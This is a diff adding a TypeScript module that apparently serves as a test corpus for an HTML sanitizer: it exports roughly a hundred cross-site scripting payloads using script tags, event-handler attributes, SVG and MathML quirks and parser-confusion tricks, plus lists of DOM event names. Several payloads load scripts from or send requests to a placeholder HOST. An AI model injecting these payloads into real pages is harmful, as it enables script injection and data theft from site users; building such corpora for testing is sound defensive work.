@@ -1,0 +1,123 @@
+/** Markup that runs a script in a page that nothing protects, in a browser of today. */
+export const scripts: readonly string[] = [
+  "<script>TOP</script>",
+  "<ScRiPt>TOP</sCrIpT>",
+  "<script/x>TOP</script>",
+  "<script\n>TOP</script\n>",
+  "<script src=//HOST/x.js></script>",
+  '<script src="http://HOST/x.js"></script>',
+  "<script type=module>TOP</script>",
+  '<script type=module>import "http://HOST/m.js"</script>',
+  '<script src="data:text/javascript,TOP"></script>',
+  "<script>/*<!--*/TOP</script>",
+  '<script>setTimeout("TOP")</script>',
+  '<script>top["pw"+"ned"](§)</script>',
+  "<script>new Function(`TOP`)()</script>",
+  "<script>import(`http://HOST/i.js`)</script>",
+  "<script>fetch(`http://HOST/f`)</script>",
+  "<script>navigator.sendBeacon(`http://HOST/b`)</script>",
+  "<script>new WebSocket(`ws://HOST/w`)</script>",
+  "<script>new EventSource(`http://HOST/e`)</script>",
+  "<script>location=`http://HOST/l`</script>",
+  "<script>open(`http://HOST/o`)</script>",
+  "<script>new Image().src=`http://HOST/i`</script>",
+  "<<script>TOP//<</script>",
+  "<p><script>TOP</script></p>",
+  "<table><script>TOP</script></table>",
+  "<table><tr><td><script>TOP</script>",
+  "<select><script>TOP</script></select>",
+  "<svg><script>TOP</script></svg>",
+  "<svg><script>&#116;op.pwned(§)</script></svg>",
+  "<svg><script><![CDATA[TOP]]></script></svg>",
+  '<svg><script href="http://HOST/s.js"></script></svg>',
+  '<svg><script xlink:href="http://HOST/s.js"></script></svg>',
+  "<svg><foreignObject><script>TOP</script></foreignObject></svg>",
+  "<math><mtext><script>TOP</script></mtext></math>",
+  "<math><annotation-xml encoding=text/html><script>TOP</script></annotation-xml></math>",
+  "<div><template shadowrootmode=open><script>TOP</script></template></div>",
+  '<noscript><p title="</noscript><script>TOP</script>"></noscript>',
+  "<title><a title='</title><script>TOP</script>'></title>",
+  "<textarea></textarea><script>TOP</script>",
+  "<xmp></xmp><script>TOP</script>",
+  "<!--><script>TOP</script>-->",
+  "<!--x--!><script>TOP</script>-->",
+  "<?x><script>TOP</script>?>",
+  "</p/><script>TOP</script>",
+  '<img alt="<x" title=/><script>TOP</script>">',
+
+  "<img src=x onerror=TOP>",
+  '<img src=x ONERROR="TOP">',
+  '<img/src="x"/onerror=TOP>',
+  "<img src=x onerror\n=\n'TOP'>",
+  '<img src=x onerror="&#116;op.pwned(§)">',
+  '<img src=x onerror="&#x0074&#x6f;p.pwned(§)">',
+  '<img src=x on\u0000error=TOP onerror="TOP">',
+  "<img src=\"x\" title='\">' onerror='TOP'>",
+  '<img src="x` `" onerror="TOP">',
+  "<image src=x onerror=TOP>",
+  "<img srcset=x onerror=TOP>",
+  "<picture><source srcset=x><img onerror=TOP></picture>",
+  "<svg onload=TOP></svg>",
+  "<svg/onload=TOP>",
+  "<svg><svg onload=TOP></svg></svg>",
+  "<svg><animate onbegin=TOP attributeName=x dur=1s></svg>",
+  "<svg><set onbegin=TOP attributeName=x dur=1s></svg>",
+  "<svg><animateTransform onbegin=TOP attributeName=transform dur=1s></svg>",
+  "<svg><animateMotion onbegin=TOP dur=1s path=M0,0></svg>",
+  "<svg><image href=x onerror=TOP></svg>",
+  "<svg><rect width=9 height=9 onclick=TOP /></svg>",
+  "<svg><g onclick=TOP><text y=20>x</text></g></svg>",
+  "<svg><text y=20 tabindex=0 onfocus=TOP>x</text></svg>",
+  "<math onclick=TOP><mi>x</mi></math>",
+  "<math><mi onclick=TOP>x</mi></math>",
+  "<math><mtext tabindex=0 onfocus=TOP>x</mtext></math>",
+  "<body onload=TOP>",
+  "<body onpageshow=TOP>",
+  "<details open ontoggle=TOP><summary>x</summary></details>",
+  "<video src=x onerror=TOP></video>",
+  "<video><source src=x onerror=TOP></video>",
+  "<audio src=x onerror=TOP></audio>",
+  "<input autofocus onfocus=TOP>",
+  "<input type=image src=x onerror=TOP>",
+  "<select autofocus onfocus=TOP></select>",
+  "<textarea autofocus onfocus=TOP></textarea>",
+  "<button autofocus onfocus=TOP>x</button>",
+  "<keygen tabindex=0 onfocus=TOP>",
+  "<a href=# onfocus=TOP>x</a>",
+  "<xss contenteditable onfocus=TOP>x</xss>",
+  "<custom-el onclick=TOP>x</custom-el>",
+  "<iframe onload=TOP></iframe>",
+  "<object data=x onerror=TOP></object>",
+  "<link rel=stylesheet href=x onerror=TOP>",
+  "<script src=x onerror=TOP></script>",
+  "<style onload=TOP>p{}</style>",
+  "<marquee onclick=TOP>x</marquee>",
+  "<dialog open onclick=TOP>x</dialog>",
+  "<p onpointerover=TOP>x</p>",
+  "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=TOP>x</p>",
+  "<label onclick=TOP>x<input></label>",
+  "<table><tr onclick=TOP><td>x</td></tr></table>",
+  "<ul><li onclick=TOP>x</ul>",
+  "<abbr title=x onclick=TOP>x</abbr>",
+  "<code onclick=TOP>x</code>",
+  "<sup id=fnref:1 onclick=TOP>1</sup>",
+];
+
+/** Every event that markup can listen to: an attribute each, on an element of each namespace. */
+export const eventNames: readonly string[] =
+  `abort animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput
+  beforepaste beforetoggle blur cancel canplay canplaythrough change click close command
+  contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut dblclick drag
+  dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error focus formdata
+  gotpointercapture input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart
+  lostpointercapture mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel paste pause
+  play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover
+  pointerrawupdate pointerup progress ratechange reset resize scroll scrollend scrollsnapchange
+  scrollsnapchanging securitypolicyviolation seeked seeking select selectionchange selectstart slotchange
+  stalled submit suspend timeupdate toggle volumechange waiting wheel`.split(/\s+/);
+
+/** Attributes of events that Chromium does not take from markup, or under another name. */
+export const otherEventNames: readonly string[] =
+  `beforematch beforexrselect fullscreenchange fullscreenerror search transitioncancel transitionend transitionrun
+  transitionstart webkitanimationend webkitanimationiteration webkitanimationstart webkittransitionend
+  webkitfullscreenchange webkitfullscreenerror`.split(/\s+/);
